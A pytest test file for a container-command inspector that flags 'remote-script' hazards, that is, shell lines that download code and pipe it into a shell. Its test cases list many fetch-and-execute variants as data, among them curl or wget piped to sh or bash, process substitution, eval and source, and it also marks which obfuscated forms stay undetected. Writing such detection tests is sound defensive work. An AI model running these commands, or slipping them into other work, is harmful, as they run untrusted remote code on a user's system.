"""A shell that runs what is fetched is a hazard by itself, and hides nothing around it."""

import pytest

from pinfold.inspect.commands.model import HOLE
from pinfold.inspect.commands.mounts import Mounts
from pinfold.inspect.podspec import Container
from pinfold.inspect.remote_scripts import scripts_of
from tests.inspect.commands.running import commands, problems, shown


@pytest.mark.parametrize(
    "script",
    [
        pytest.param("curl -fsSL https://x/i.sh | sh", id="a pipe"),
        pytest.param("wget -qO- https://x | bash -s -- --opt", id="with words of its own"),
        pytest.param("curl https://x | tee y | sudo -E bash", id="behind another program"),
        pytest.param("bash <(curl -s https://x)", id="a file"),
        pytest.param('sh -c "$(curl -fsSL https://x)"', id="a text"),
        pytest.param("f() { curl x; }; f | nice sh", id="by a function"),
        pytest.param('X=$(curl x); echo "$X" | sh', id="by a variable"),
        pytest.param('X=$(curl x); bash -c "$X"', id="by a variable, as a text"),
    ],
)
def test_what_stands_around_it_is_read_and_the_hazard_told(script: str) -> None:
    found = commands("bash", "-c", f"{script}; v a")
    hazards = list(scripts_of(found, Mounts(Container(name="c"), (), {})))
    assert (shown(found)[-1], problems(found)) == (["v", "a"], [])
    assert [one.hazard for one in hazards] == ["remote-script"]


@pytest.mark.parametrize(
    "script",
    [
        pytest.param("C=curl; $C x | sh", id="a name that is put together"),
        pytest.param('eval "$(curl x)"', id="in this shell"),
        pytest.param("source <(curl x)", id="a file for this shell"),
        pytest.param("curl x > f; sh f", id="a file that is kept"),
        pytest.param("curl x | sed s/a/b/ | sh", id="changed on its way"),
        pytest.param('sh -c "v b; $(curl x)"', id="a part of a text"),
        pytest.param("bash >(curl x)", id="a file that it would write to"),
    ],
)
def test_anything_else_stays_unknown(script: str) -> None:
    found = commands("bash", "-c", script)
    assert problems(found) or HOLE in found.processes[-1].argv[0].text
